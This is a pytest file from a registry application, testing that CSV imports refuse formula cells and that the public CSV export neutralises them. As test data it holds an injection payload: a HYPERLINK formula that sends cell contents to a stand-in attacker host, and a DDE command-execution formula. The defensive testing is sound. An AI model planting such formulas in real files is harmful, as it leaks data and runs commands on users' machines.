"""CSV injection: imports refuse formula cells, the public CSV export neutralises them."""

import csv
import io
import json
import re
from pathlib import Path

import pytest

from registry.exports.csv_safety import neutralise
from registry.models import Status
from tests.conftest import content_of

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ministère = Finances", "Ministère = Finances"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(cell, written):
    assert neutralise(cell) == written


def test_the_public_csv_neutralises_a_display_name_that_is_a_formula(client, make_entry):
    entry = make_entry(Status.VERIFIED, display_name=HYPERLINK, team_name="@équipe")
    rows = list(
        csv.DictReader(io.StringIO(content_of(client.get("/open-data/accounts.csv")).decode()))
    )
    row = next(row for row in rows if row["id"] == str(entry.pk))
    assert row["display_name"] == "'" + HYPERLINK
    assert row["team_name"] == "'@équipe"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def test_the_public_json_keeps_the_values_as_they_are(client, make_entry):
    entry = make_entry(Status.VERIFIED, display_name=HYPERLINK)
    data = json.loads(content_of(client.get("/open-data/accounts.json")))
    assert [a["display_name"] for a in data["accounts"] if a["id"] == entry.pk] == [HYPERLINK]


def test_every_csv_writer_of_the_project_goes_through_the_neutraliser():
    """A new CSV export must use registry.exports.csv_safety (a writer without it is found here)."""
    writer = re.compile(r"csv\.(writer|DictWriter)\(")
    writers = [
        path
        for folder in ("registry", "accounts")
        for path in (ROOT / folder).rglob("*.py")
        if writer.search(path.read_text(encoding="utf-8"))
    ]
    assert writers, "the open-data export writes CSV"
    # An uploaded workbook turned into the import's CSV text, read back by the import (which
    # refuses formula cells itself, with csv_safety's list), never given out to anybody.
    read_back_only = {ROOT / "registry" / "inventory.py"}
    for path in writers:
        assert path in read_back_only or "csv_safety" in path.read_text(encoding="utf-8"), path


@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+1", "-1", "@x", " =1"])
def test_the_workspace_import_refuses_a_formula_cell(client, editor, service_a, cell):
    from django.core.files.uploadedfile import SimpleUploadedFile

    header = "link,display_name,service,team_name,team_email,languages\n"
    row = f'https://x.com/formula,"{cell}",contributions,Com,a@mfin.example.org,fr\n'
    upload = SimpleUploadedFile("accounts.csv", (header + row).encode(), "text/csv")
    client.force_login(editor)
    page = client.post("/en/workspace/import/", {"file": upload}).content.decode()
    assert "cells may not start with = + - @" in page
